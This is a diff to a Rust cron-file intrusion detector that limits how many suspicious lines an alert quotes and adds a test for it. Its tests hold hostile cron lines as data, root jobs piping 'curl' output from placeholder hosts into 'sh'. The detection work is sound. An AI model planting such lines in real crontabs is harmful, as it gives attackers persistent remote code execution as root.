@@ -94,6 +94,8 @@ pub(crate) fn subject(path: &std::path::Path) -> u32 {
 
 /// Longest line quoted in an alert.
 const QUOTE_MAX: usize = 200;
+/// Most lines quoted in an alert (the rest are counted).
+const QUOTE_LINES: usize = 5;
 
 /// Judge the lines a cron file gained: a finding when any is suspicious.
 pub fn judge(change: &Change) -> Option<Finding> {
@@ -110,13 +112,17 @@ pub fn judge(change: &Change) -> Option<Finding> {
         hits.iter()
             .any(|h| matches!(h.class, Class::Miner | Class::ReverseShell))
     });
-    let lines: Vec<String> = suspicious
+    let mut lines: Vec<String> = suspicious
         .iter()
+        .take(QUOTE_LINES)
         .map(|(line, hits)| {
             let quoted: String = line.chars().take(QUOTE_MAX).collect();
             format!("+ {quoted} ({})", patterns::describe(hits))
         })
         .collect();
+    if suspicious.len() > QUOTE_LINES {
+        lines.push(format!("(+{} more)", suspicious.len() - QUOTE_LINES));
+    }
     let name = change
         .path
         .file_name()
@@ -135,8 +141,8 @@ pub fn judge(change: &Change) -> Option<Finding> {
         detail: format!(
             "{} gained {} suspicious line{}: {}",
             change.path.display(),
-            lines.len(),
-            if lines.len() == 1 { "" } else { "s" },
+            suspicious.len(),
+            if suspicious.len() == 1 { "" } else { "s" },
             lines.join(" | ")
         ),
         subject: subject(&change.path),
@@ -238,6 +244,21 @@ mod tests {
         let long = format!("* * * * * root curl {} | sh", "a".repeat(5000));
         let f = judge(&change("/etc/cron.d/x", "", &long)).unwrap();
         assert!(f.detail.len() < 600, "{}", f.detail.len());
+    }
+
+    #[test]
+    fn a_flood_of_lines_is_counted_not_quoted() {
+        let flood: String = (0..10_000)
+            .map(|i| format!("* * * * * root curl x{i}.example | sh\n"))
+            .collect();
+        let f = judge(&change("/etc/cron.d/x", "", &flood)).unwrap();
+        assert!(
+            f.detail.contains("gained 10000 suspicious lines"),
+            "{}",
+            f.detail
+        );
+        assert!(f.detail.ends_with("(+9995 more)"), "{}", f.detail);
+        assert!(f.detail.len() < 2000);
     }
 
     #[test]
